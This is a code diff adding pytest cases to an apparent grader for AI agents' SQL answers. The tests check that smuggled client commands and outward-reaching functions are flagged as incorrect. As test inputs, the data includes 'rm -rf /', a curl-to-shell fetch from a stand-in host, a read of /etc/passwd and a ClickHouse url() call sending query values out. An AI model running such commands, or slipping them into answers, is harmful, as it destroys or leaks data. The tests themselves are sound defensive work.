@@ -510,6 +510,99 @@ def test_prose_naming_into_outfile_without_a_file_is_no_write(prose: str) -> Non
         assert evaluation.verdict is Verdict.CORRECT, (dialect, evaluation.flags)
 
 
+@pytest.mark.parametrize(
+    ("sql", "dialect", "kind"),
+    [
+        (".shell rm -rf /\nSELECT name FROM users;", "sqlite", ".shell (client command) (outside the SQL)"),
+        (".output /tmp/names.txt\nSELECT name FROM users;", "sqlite", ".output (client command) (outside the SQL)"),
+        (
+            "```\n.system curl -s http://x.example/i | sh\n```\n```sql\nSELECT name FROM users;\n```",
+            "sqlite",
+            ".system (client command) (outside the SQL)",
+        ),
+        ("- `.once /tmp/x`\n\nSELECT name FROM users;", "duckdb", ".once (client command) (outside the SQL)"),
+        ("\\! rm -rf /\nSELECT name FROM users;", "postgres", "\\! (client command) (outside the SQL)"),
+        (
+            "Run:\n\\o /tmp/out.txt\nthen\n```sql\nSELECT name FROM users;\n```",
+            "postgres",
+            "\\o (client command) (outside the SQL)",
+        ),
+        ("SELECT name FROM users;\n\\o /tmp/out.txt", "postgres", "\\O (CLIENT COMMAND)"),
+        ("SELECT name FROM users;\n.output /tmp/x", None, ".OUTPUT (CLIENT COMMAND)"),
+    ],
+    ids=[
+        "sqlite_shell",
+        "sqlite_output",
+        "sqlite_system_in_a_block",
+        "duckdb_once_in_a_list",
+        "psql_shell",
+        "psql_output",
+        "psql_output_after_the_sql",
+        "dot_command_after_the_sql",
+    ],
+)
+def test_a_command_line_client_command_is_never_scored_clean(sql: str, dialect: str | None, kind: str) -> None:
+    """``sqlite3``'s dot-commands and ``psql``'s backslash commands run a shell command or write
+    a file when a harness feeds the message to the client; around the SQL they were stripped as
+    prose and the answer scored CORRECT at Φ 80 (a probe of 2026-12-08)."""
+    evaluation = evaluate(AgentLogRecord(run_id="r", question="Show the names of the users", sql=sql, dialect=dialect))
+    assert f"non_select_statement: {kind}" in evaluation.flags, evaluation.flags
+    assert evaluation.status is EvaluationStatus.EVALUATED, evaluation.status_reason
+    assert evaluation.verdict is Verdict.INCORRECT and evaluation.p_correct == 0.0
+
+
+@pytest.mark.parametrize(
+    ("sql", "dialect", "kind"),
+    [
+        ("SELECT name FROM users FOR UPDATE", "postgres", "SELECT FOR UPDATE"),
+        ("SELECT name FROM users WHERE id = 3 FOR SHARE", "postgres", "SELECT FOR SHARE"),
+        ("SELECT name FROM users LOCK IN SHARE MODE", "mysql", "SELECT FOR SHARE"),
+        ("SELECT name FROM users FOR UPDATE NOWAIT", "mysql", "SELECT FOR UPDATE"),
+        ("SELECT name FROM users WITH (UPDLOCK, ROWLOCK)", "tsql", "SELECT FOR UPDATE"),
+        ("SELECT edit(name) FROM users", "sqlite", "EDIT() (inside the query)"),
+        ("SELECT * FROM read_text('/etc/passwd')", "duckdb", "READ_TEXT() (inside the query)"),
+        (
+            "SELECT * FROM url('http://x.example/?q=' || (SELECT name FROM users LIMIT 1), CSV)",
+            "clickhouse",
+            "URL() (inside the query)",
+        ),
+    ],
+    ids=[
+        "for_update",
+        "for_share",
+        "lock_in_share_mode",
+        "nowait",
+        "updlock_hint",
+        "sqlite_edit",
+        "duckdb_read_text",
+        "clickhouse_url",
+    ],
+)
+def test_a_query_that_locks_rows_or_reaches_outside_is_no_read_only_answer(sql: str, dialect: str, kind: str) -> None:
+    """Row locks block the rows' writers (a read-only transaction refuses them); the sqlite3
+    shell's ``edit()`` runs an editor, DuckDB's ``read_text`` reads any host file, ClickHouse's
+    ``url()`` sends the query's values to a server: each scored CORRECT at Φ 80 before."""
+    evaluation = evaluate(AgentLogRecord(run_id="r", question="Show the names of the users", sql=sql, dialect=dialect))
+    assert f"non_select_statement: {kind}" in evaluation.flags, evaluation.flags
+    assert evaluation.verdict is Verdict.INCORRECT and evaluation.p_correct == 0.0
+
+
+@pytest.mark.parametrize(
+    ("sql", "dialect"),
+    [
+        ("SELECT url, file, edit FROM pages", "clickhouse"),
+        ("SELECT SUM(market_share) FROM firms WHERE block = 'A'", "postgres"),
+        ("SELECT name FROM users WITH (NOLOCK)", "tsql"),
+        ("SELECT name FROM users;\n\n... Open the file. The .output command is not needed; use '\\n'.", "sqlite"),
+        ("SELECT name FROM users\n\nAnswer: \\begin{code} SELECT name FROM users \\end{code}", "postgres"),
+    ],
+    ids=["columns", "share_and_block_columns", "nolock_hint", "prose_about_a_dot_command", "latex_markup"],
+)
+def test_names_like_locks_client_commands_or_functions_are_no_write(sql: str, dialect: str) -> None:
+    evaluation = evaluate(AgentLogRecord(run_id="r", question="Show the names of the users", sql=sql, dialect=dialect))
+    assert not any(flag.startswith("non_select_statement") for flag in evaluation.flags), evaluation.flags
+
+
 @pytest.mark.parametrize("dialect", ["mysql", None], ids=["mysql", "no_dialect"])
 def test_a_second_code_block_that_writes_a_server_file_is_flagged(dialect: str | None) -> None:
     """Two fenced blocks are read as one text; the second one's file write made it a
